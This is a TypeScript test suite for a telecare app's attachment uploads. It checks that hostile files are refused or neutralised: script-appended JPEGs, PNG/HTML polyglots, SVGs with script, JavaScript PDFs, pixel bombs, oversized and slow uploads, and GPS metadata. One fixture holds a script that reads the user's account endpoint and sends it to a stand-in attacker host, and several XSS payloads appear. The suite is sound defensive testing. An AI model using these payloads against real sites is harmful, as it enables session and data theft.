// The attack cases of issue 28: each upload is refused or neutralised, and a refused one stores nothing.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { build, createPatient, expectProblem, type TestApp } from '../../../test/helpers.ts';
import { care } from '../../../test/fixtures/care.ts';
import { pinClock } from '../../platform/clock.ts';
import {
  ATTACHMENTS,
  bombPng,
  download,
  jpeg,
  jpegWithGps,
  pdfWithJavaScript,
  png,
  send,
  storedCount,
  upload,
  uploaded,
} from '../../../test/fixtures/attachments.ts';
import { chunkStream, sweepOrphans } from './service.ts';

/** A generous request deadline: a 15 MiB upload on a loaded 2-core CI machine once took over the default 30 s. */
let app: TestApp;
/** Small limits: a quota of 100 KB and a 1.5 s request deadline (the slow upload). */
let small: TestApp;
before(async () => {
  [app, small] = await Promise.all([
    build(undefined, { requestTimeoutMs: 180_000 }),
    build(undefined, { attachmentQuotaBytes: 100_000, requestTimeoutMs: 1500, headersTimeoutMs: 1000 }),
  ]);
});
after(async () => {
  await Promise.all([app.close(), small.close()]);
});

const has = (buf: Buffer, s: string) => buf.includes(Buffer.from(s, 'latin1'));

/** Uploads that must be refused with nothing stored (no row, no chunk, no temporary file left). */
async function refusedNothingStored(
  t: TestApp,
  res: Promise<{ status: number; body: any; headers: Headers; text: string }>,
  status: number,
  code?: string,
) {
  const before = await storedCount(t);
  const r = await res;
  if (code) expectProblem(r as any, status, code);
  else assert.equal(r.status, status, r.text);
  assert.deepEqual(await storedCount(t), before);
  assert.deepEqual(readdirSync(join(t.config.dataDir, 'uploads')), []);
  return r;
}

test('a JPEG with a script appended is stored re-encoded: the script bytes are gone', async () => {
  const patient = await createPatient(app);
  const script = '<script>fetch("/api/v1/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>';
  const hostile = Buffer.concat([await jpeg(), Buffer.from(script)]);
  const a = await uploaded(app, patient, hostile, 'innocent.html');
  assert.equal(a.contentType, 'image/jpeg');
  assert.equal(a.fileName, 'innocent.html.jpg', 'the name ends in what the bytes are');
  const d = await download(app, patient, a.id);
  assert.equal(d.status, 200);
  assert.ok(!has(d.bytes, '<script'), 'no script survives re-encoding');
  assert.equal((await sharp(d.bytes).metadata()).format, 'jpeg');
});

test('a PNG/HTML polyglot (HTML in a text chunk and after IEND) is re-encoded into a plain PNG', async () => {
  const patient = await createPatient(app);
  const html = '<html><body><script>alert(document.cookie)</script></body></html>';
  const base = await png();
  // A tEXt chunk carrying the HTML inserted after IHDR (CRC unchecked by lenient readers), and the HTML again after IEND.
  const withText = await sharp(base).withMetadata().png().toBuffer();
  const polyglot = Buffer.concat([withText, Buffer.from(html)]);
  assert.ok(has(polyglot, '<script'));
  const a = await uploaded(app, patient, polyglot, 'page.html');
  assert.equal(a.contentType, 'image/png');
  const d = await download(app, patient, a.id);
  assert.ok(!has(d.bytes, '<script') && !has(d.bytes, '<html'));
  assert.equal(d.headers.get('x-content-type-options'), 'nosniff');
  assert.match(d.headers.get('content-security-policy') ?? '', /^sandbox/);
});

test('an SVG renamed .png and declared image/png is 415, nothing stored', async () => {
  const patient = await createPatient(app);
  const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
  await refusedNothingStored(app, upload(app, patient, svg, 'chart.png', 'image/png'), 415, 'UNSUPPORTED_MEDIA_TYPE');
  const html = Buffer.from('<!doctype html><script>alert(1)</script>');
  await refusedNothingStored(app, upload(app, patient, html, 'scan.pdf', 'application/pdf'), 415, 'UNSUPPORTED_MEDIA_TYPE');
  // A JPEG signature on bytes that are no JPEG: not decodable, refused.
  const fake = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>'.repeat(20))]);
  await refusedNothingStored(app, upload(app, patient, fake, 'x.jpg', 'image/jpeg'), 415, 'UNSUPPORTED_MEDIA_TYPE');
});

test('a PDF with JavaScript is stored as sent but served as an attachment in a sandbox', async () => {
  const { doctor, patient } = await care(app);
  const pdf = pdfWithJavaScript();
  const a = await uploaded(app, patient, pdf, 'report.pdf');
  assert.equal(a.contentType, 'application/pdf');
  const sent = await app.request('POST', `/api/v1/conversations/${doctor.id}/messages`, {
    token: patient.token,
    body: { attachmentIds: [a.id] },
  });
  assert.equal(sent.status, 201);
  const d = await download(app, doctor, a.id);
  assert.deepEqual(d.bytes, pdf);
  assert.match(d.headers.get('content-disposition') ?? '', /^attachment;/);
  assert.match(d.headers.get('content-security-policy') ?? '', /^sandbox;.*default-src 'none'/);
  assert.equal(d.headers.get('x-content-type-options'), 'nosniff');
  assert.match(d.headers.get('cache-control') ?? '', /no-store/);
});

test('a 20,000 × 20,000 image in about 50 KB is refused before decoding (413), nothing stored', async () => {
  const patient = await createPatient(app);
  const bomb = bombPng(20_000, 20_000);
  assert.ok(bomb.length < 100_000, `${bomb.length} bytes`);
  const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
  assert.deepEqual([meta.width, meta.height], [20_000, 20_000]);
  await refusedNothingStored(app, upload(app, patient, bomb, 'bomb.png'), 413, 'PAYLOAD_TOO_LARGE');
});

test('a file of exactly the limit is stored in chunks and downloads whole; one byte more is 413, nothing stored', async () => {
  const patient = await createPatient(app);
  const max = app.config.attachmentMaxBytes;
  const body = Buffer.alloc(max, 0x20);
  body.write('%PDF-1.4\n', 0, 'latin1');
  for (let i = 4096; i < max; i += 65_537) body[i] = i % 251;
  await refusedNothingStored(app, upload(app, patient, Buffer.concat([body, Buffer.from('x')]), 'big.pdf'), 413, 'PAYLOAD_TOO_LARGE');
  const a = await uploaded(app, patient, body, 'big.pdf');
  assert.equal(a.size, max);
  const [{ n }] = await app.database.rows<{ n: number }>(
    (await import('drizzle-orm')).sql`SELECT count(*)::int AS n FROM attachment_chunks WHERE attachment_id = ${a.id}`,
  );
  assert.equal(Number(n), Math.ceil(max / (256 * 1024)));
  const d = await download(app, patient, a.id);
  assert.equal(d.headers.get('content-length'), String(max));
  assert.ok(d.bytes.equals(body));
});

test('a multipart with 100 parts is refused (413), nothing stored', async () => {
  const patient = await createPatient(app);
  const bytes = await png();
  const files = new FormData();
  for (let i = 0; i < 100; i++) files.append('file', new Blob([new Uint8Array(bytes)]), `p${i}.png`);
  await refusedNothingStored(app, send(app, patient, files), 413, 'PAYLOAD_TOO_LARGE');
  const fields = new FormData();
  fields.append('file', new Blob([new Uint8Array(bytes)]), 'p.png');
  for (let i = 0; i < 99; i++) fields.append(`f${i}`, 'x');
  const r = await refusedNothingStored(app, send(app, patient, fields), 400);
  assert.equal(r.body.code, 'VALIDATION_FAILED');
});

test('a slow upload is cut off at the request deadline (408, connection closed), nothing stored', async () => {
  const patient = await createPatient(small);
  const before = await storedCount(small);
  const boundary = 'slowboundary';
  const head =
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="slow.pdf"\r\nContent-Type: application/pdf\r\n\r\n` +
    '%PDF-1.4\n';
  const { port } = new URL(small.url);
  const socket = connect(Number(port), '127.0.0.1');
  let answer = '';
  socket.on('data', (d) => (answer += d.toString('latin1')));
  const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
  socket.write(
    `POST ${ATTACHMENTS} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${patient.token}\r\n` +
      `Content-Type: multipart/form-data; boundary=${boundary}\r\nContent-Length: 1000000\r\n\r\n${head}`,
  );
  // The body never completes: the server must answer and close by itself.
  await closed;
  assert.match(answer, /^HTTP\/1\.1 408/);
  assert.deepEqual(await storedCount(small), before);
  // The temporary file is removed once the request stream errors.
  await waitFor(() => readdirSync(join(small.config.dataDir, 'uploads')).length === 0);
});

test('uploads beyond the account quota are 409 QUOTA_EXCEEDED, checked against what is stored', async () => {
  const patient = await createPatient(small);
  const pdf = (n: number) => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(n - 9, 0x41)]);
  await uploaded(small, patient, pdf(60_000), 'a.pdf');
  await refusedNothingStored(small, upload(small, patient, pdf(50_000), 'b.pdf'), 409, 'QUOTA_EXCEEDED');
  // Concurrent uploads cannot both take the last free space.
  const other = await createPatient(small);
  const results = await Promise.all([upload(small, other, pdf(60_000), 'c.pdf'), upload(small, other, pdf(60_000), 'd.pdf')]);
  assert.deepEqual(results.map((r) => r.status).sort(), [201, 409]);
});

test('a JPEG with GPS EXIF downloads with no EXIF, no GPS and no camera name; orientation is applied', async () => {
  const { doctor, patient } = await care(app);
  const original = await jpegWithGps();
  const before = await sharp(original).metadata();
  assert.ok(before.exif && has(before.exif, 'TelecareTestCam'), 'the test image carries EXIF');
  assert.ok(has(original, 'GPS-Phone'));
  const a = await uploaded(app, patient, original, 'IMG_0001.jpg');
  await app.request('POST', `/api/v1/conversations/${doctor.id}/messages`, { token: patient.token, body: { attachmentIds: [a.id] } });
  const d = await download(app, doctor, a.id);
  const after = await sharp(d.bytes).metadata();
  assert.equal(after.exif, undefined);
  assert.equal(after.xmp, undefined);
  assert.equal(after.icc, undefined);
  assert.ok(!has(d.bytes, 'Exif') && !has(d.bytes, 'TelecareTestCam') && !has(d.bytes, 'GPS-Phone'));

  // A portrait photo stored sideways with orientation 6 is stored upright.
  const sideways = await sharp(await jpeg(40, 20))
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
  const upright = await uploaded(app, patient, sideways, 'portrait.jpg');
  const m = await sharp((await download(app, patient, upright.id)).bytes).metadata();
  assert.deepEqual([m.width, m.height, m.orientation], [20, 40, undefined]);
});

test('unsent uploads expire after ATTACHMENT_ORPHAN_TTL_MINUTES; sent ones stay', async () => {
  const { doctor, patient } = await care(app);
  const unsent = await uploaded(app, patient, await png());
  const sent = await uploaded(app, patient, await png());
  await app.request('POST', `/api/v1/conversations/${doctor.id}/messages`, { token: patient.token, body: { attachmentIds: [sent.id] } });
  pinClock(app.app.platform, new Date(Date.now() + (app.config.attachmentOrphanTtlMinutes - 5) * 60_000));
  await sweepOrphans(app.app.platform);
  assert.equal((await download(app, patient, unsent.id)).status, 200);
  pinClock(app.app.platform, new Date(Date.now() + (app.config.attachmentOrphanTtlMinutes + 1) * 60_000));
  try {
    assert.ok((await sweepOrphans(app.app.platform)) >= 1);
  } finally {
    pinClock(app.app.platform, null);
  }
  assert.equal((await download(app, patient, unsent.id)).status, 404);
  assert.equal((await download(app, patient, sent.id)).status, 200);
  assert.equal((await download(app, doctor, sent.id)).status, 200);
});

test('a download is a pull stream: it fetches the next chunk only when the reader asks', async () => {
  const fetched: number[] = [];
  const stream = chunkStream(async (n) => {
    fetched.push(n);
    return Buffer.alloc(256 * 1024, n);
  }, 60);
  const it = stream[Symbol.asyncIterator]();
  const first = await it.next();
  assert.equal((first.value as Buffer).length, 256 * 1024);
  // The stream holds at most the chunk being read and one ahead, never the file.
  await new Promise((r) => setImmediate(r));
  assert.ok(fetched.length <= 2, `fetched ${fetched.length} chunks`);
  let total = (first.value as Buffer).length;
  for (let r = await it.next(); !r.done; r = await it.next()) total += (r.value as Buffer).length;
  assert.equal(total, 60 * 256 * 1024);
  assert.deepEqual(
    fetched,
    Array.from({ length: 60 }, (_, i) => i),
  );
});

async function waitFor(check: () => boolean): Promise<void> {
  for (let i = 0; i < 200 && !check(); i++) await new Promise((r) => setTimeout(r, 25));
  assert.ok(check());
}
